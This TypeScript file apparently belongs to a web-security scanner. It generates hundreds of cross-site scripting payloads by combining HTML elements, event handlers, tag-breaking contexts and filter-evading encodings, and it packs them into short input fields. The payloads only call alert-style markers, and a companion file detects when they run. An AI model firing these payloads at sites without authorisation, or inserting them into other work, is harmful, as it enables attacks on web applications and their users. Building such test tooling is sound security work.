const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'select autofocus',
  'iframe',
  'object data=x',
  'embed src=x',
  'image src=x',
  'math',
  'marquee',
  'style',
  'a tabindex=1 autofocus',
  'p contenteditable autofocus',
  'link rel=stylesheet href=x',
  'form',
  'button autofocus',
  'textarea autofocus',
] as const;
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onloadstart', 'onpointerenter'] as const;

/** A page that runs one of them reports it: see browser-watch.ts. */
const CALLS = ['alert(1)', 'confirm(1)', 'prompt(1)', 'tmran=1', 'alert`1`', "top['tmran']=1"] as const;

/** What ends the place in which a careless page writes a text. */
const CONTEXTS = ['', '">', "'>", '</title>', '</script>', '</textarea>', '-->', '</style>', ']]>', '`>', '</p>'];

const escaped = (text: string, escape: (char: string) => string) => text.replace(/[<>"'`]/g, escape);
const code = (char: string) => char.charCodeAt(0);

/** Forms that a page must not decode, and forms that filters overlook. */
const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(' ', '/'),
  (text) =>
    text
      .replace(/[a-z]/g, (char, at: number) => (at % 2 ? char.toUpperCase() : char))
      .replace(/alert|confirm|prompt|tmran/gi, (name) => name.toLowerCase()),
  (text) => escaped(text, (char) => `&#${code(char)};`),
  (text) => escaped(text, (char) => `%${code(char).toString(16)}`),
  (text) => escaped(text, (char) => `\\x${code(char).toString(16)}`),
  (text) => text.replace('=', ' = ').replaceAll(' ', '\t'),
  (text) => text.replace('>', '//'),
];

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'javascript&colon;',
  'vbscript:',
  'data:text/html,',
];
const whole = (call: string) => [
  `<script>${call}</script>`,
  `</script><script>${call}//`,
  `"><script>${call}</script>`,
  `'-${call}-'`,
  `"-${call}-"`,
  `\${${call}}`,
  `{{${call}}}`,
  `" onfocus=${call} autofocus x="`,
  `' onfocus=${call} autofocus x='`,
  `<a href=javascript:${call}>x</a>`,
  `<iframe src=javascript:${call}>`,
  `<iframe srcdoc="<script>${call}</script>">`,
  `<svg><script>${call}</script>`,
  `<svg><a xlink:href=javascript:${call}>x`,
  `<form action=javascript:${call}>`,
  `<base href=//example.invalid>${call}`,
  `<meta http-equiv=refresh content=0;javascript:${call}>`,
  ...schemes.map((scheme) => scheme + call),
];

/** As many as docs/reliability.md asks for. */
export const MIN_PAYLOADS = 600;
/** Two or three of them fit into a field of 100 characters. */
const MAX_LENGTH = 40;

/** Elements x handlers x calls x contexts x encodings: neighbours differ in all of them. Each text occurs once. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...CALLS.flatMap(whole),
    ...Array.from({ length: ELEMENTS.length * HANDLERS.length * 9 }, (_, at) => {
      const element = pick(ELEMENTS, at);
      const handler = pick(HANDLERS, Math.floor(at / ELEMENTS.length));
      const context = pick(CONTEXTS, at);
      const encode = pick(ENCODINGS, Math.floor(at / 3));
      return encode(`${context}<${element} ${handler}=${pick(CALLS, at)}>`);
    }),
  ]),
].filter(({ length }) => length <= MAX_LENGTH);

function pick<T>(items: readonly T[], at: number): T {
  return items[at % items.length] as T;
}

/** The payloads in as few texts as the length of a field allows. */
export function pack(payloads: readonly string[], max: number): string[] {
  const texts: string[] = [];
  let text = '';
  for (const payload of payloads) {
    if (text && text.length + payload.length > max) {
      texts.push(text);
      text = '';
    }
    text += payload;
  }
  return text ? [...texts, text] : texts;
}
